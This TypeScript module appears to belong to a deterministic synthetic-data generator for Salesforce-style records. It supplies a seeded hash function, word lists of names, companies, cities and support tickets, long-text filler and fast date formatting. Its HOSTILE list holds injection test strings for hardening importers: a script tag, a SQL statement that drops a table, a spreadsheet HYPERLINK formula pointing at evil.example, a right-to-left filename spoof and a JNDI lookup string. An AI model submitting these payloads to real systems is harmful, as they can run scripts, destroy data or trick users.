// Owns the generator's building blocks: a stateless integer hash of (seed, object, index, salt)
// that every generated value derives from (same seed, same data, no state), word lists, and the
// data-quality hazards real orgs contain (non-Latin and hostile strings, very long texts).

export function mix(x: number): number {
  x = Math.imul(x ^ (x >>> 16), 0x85ebca6b)
  x = Math.imul(x ^ (x >>> 13), 0xc2b2ae35)
  return (x ^ (x >>> 16)) >>> 0
}

/** Deterministic 32-bit value for (seed, object code, record index, salt). */
export function h(seed: number, obj: number, i: number, salt: number): number {
  const base = mix(seed ^ Math.imul(obj, 0x9e3779b9))
  const rec = mix(base ^ Math.imul(i | 0, 0x85ebca77) ^ Math.imul(Math.floor(i / 4294967296), 0xc2b2ae3d))
  return mix(mix(rec ^ Math.imul(salt + 1, 0x27d4eb2f)) + salt)
}

export const pickOf = <T>(list: readonly T[], n: number): T => list[n % list.length]

export const FIRST = ['James', 'Mary', 'Robert', 'Patricia', 'John', 'Jennifer', 'Michael', 'Linda', 'David', 'Elizabeth', 'William', 'Barbara', 'Richard', 'Susan', 'Joseph', 'Jessica', 'Thomas', 'Sarah', 'Carlos', 'Aisha', 'Wei', 'Priya', 'Olga', 'Kenji', 'Fatima', 'Liam', 'Chloé', 'Zoë', 'Björn', 'Siobhán']
export const LAST = ['Smith', 'Johnson', 'Williams', 'Brown', 'Jones', 'Garcia', 'Miller', 'Davis', 'Rodriguez', 'Martinez', 'Hernandez', 'Lopez', 'Gonzalez', 'Wilson', 'Anderson', 'Thomas', 'Taylor', 'Moore', 'Jackson', 'Martin', "O'Brien", 'Nguyen', 'Müller', 'Kowalski', 'Rossi', 'Dubois', 'Tanaka', 'Okafor', 'Van der Berg', 'Da Silva']
/** Non-Latin names: CJK, Cyrillic, Arabic (RTL), Greek, Devanagari, with the Latin-script mix real orgs have. */
export const NON_LATIN: ReadonlyArray<readonly [string, string]> = [
  ['太郎', '山田'], ['Иван', 'Петров'], ['محمد', 'العلي'], ['Γιώργος', 'Παπαδόπουλος'], ['प्रिया', 'शर्मा'], ['민준', '김'], ['Łukasz', 'Żółkiewski'], ['Nguyễn', 'Thị Hương'],
]
/** Strings that break naive importers: markup, SQL, CSV formula injection, control chars, RTL override, padding. */
export const HOSTILE = [
  '<script>alert("x")</script>', "Robert'); DROP TABLE contacts;--", '=HYPERLINK("http://evil.example","click")', '"Quoted, with comma"',
  'Line one\r\nLine two', '\u202Eevil.exe\u202C', '   padded   ', 'NULL', '{{7*7}} ${jndi:ldap://x}', 'emoji 🚀🔥 name', 'tab\tseparated', '\\backslash\\',
]
export const COMPANY_WORDS = ['Acme', 'Globex', 'Initech', 'Umbrella', 'Stark', 'Wayne', 'Wonka', 'Tyrell', 'Cyberdyne', 'Soylent', 'Hooli', 'Vandelay', 'Massive', 'Pied Piper', 'Oscorp', 'Gringotts', 'Nakatomi', 'Monarch', 'Aperture', 'Black Mesa']
export const COMPANY_SUFFIX = ['Inc.', 'LLC', 'Ltd', 'GmbH', 'S.A.', 'Corp', 'Group', 'Holdings', 'K.K.', 'Pty Ltd']
export const CITIES: ReadonlyArray<readonly [string, string, string]> = [
  ['San Francisco', 'CA', 'USA'], ['New York', 'NY', 'USA'], ['Austin', 'TX', 'USA'], ['London', '', 'United Kingdom'], ['Paris', '', 'France'],
  ['Berlin', '', 'Germany'], ['Tokyo', '', 'Japan'], ['São Paulo', 'SP', 'Brazil'], ['Sydney', 'NSW', 'Australia'], ['Toronto', 'ON', 'Canada'],
]
export const SUBJECTS = ['Cannot log in', 'Invoice is wrong', 'Device overheating', 'Feature request: export', 'Shipment delayed', 'Password reset', 'API returns 500', 'Refund request', 'Setup help', 'Data looks duplicated']
export const COMMENTS = ['Thanks for reaching out, we are looking into it.', 'Customer confirmed the issue persists.', 'Escalated to engineering.', 'Workaround provided; waiting for confirmation.', 'Customer says it works now, closing.', 'Internal note: check logs for tenant.']

const LOREM = 'Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua. '
/** A text of exactly n characters (the long-text hazard: 32,000-char descriptions). */
export function longText(n: number): string {
  return LOREM.repeat(Math.ceil(n / LOREM.length)).slice(0, n)
}

export const DAY = 86_400_000
/** Fixed window so data does not depend on the clock: records are created 2019-01-01 .. 2025-12-31. */
export const START = Date.UTC(2019, 0, 1)
export const SPAN = Date.UTC(2026, 0, 1) - START

// Formatting dates is the hottest path when serving pages, so the date part is cached per day
// and the time of day is assembled arithmetically instead of through Date#toISOString.
const dayCache = new Map<number, string>()
function dayString(day: number): string {
  let s = dayCache.get(day)
  if (s === undefined) {
    s = new Date(day * DAY).toISOString().slice(0, 10)
    if (dayCache.size > 20_000) dayCache.clear()
    dayCache.set(day, s)
  }
  return s
}
const pad2 = (n: number) => (n < 10 ? '0' + n : String(n))
const pad3 = (n: number) => (n < 10 ? '00' + n : n < 100 ? '0' + n : String(n))

/** Salesforce datetime format: 2024-11-07T07:00:00.000+0000 */
export function sfDateTime(ms: number): string {
  const day = Math.floor(ms / DAY)
  let r = ms - day * DAY
  const h = Math.floor(r / 3_600_000)
  r -= h * 3_600_000
  const m = Math.floor(r / 60_000)
  r -= m * 60_000
  const sec = Math.floor(r / 1000)
  return `${dayString(day)}T${pad2(h)}:${pad2(m)}:${pad2(sec)}.${pad3(r - sec * 1000)}+0000`
}
export function sfDate(ms: number): string {
  return dayString(Math.floor(ms / DAY))
}
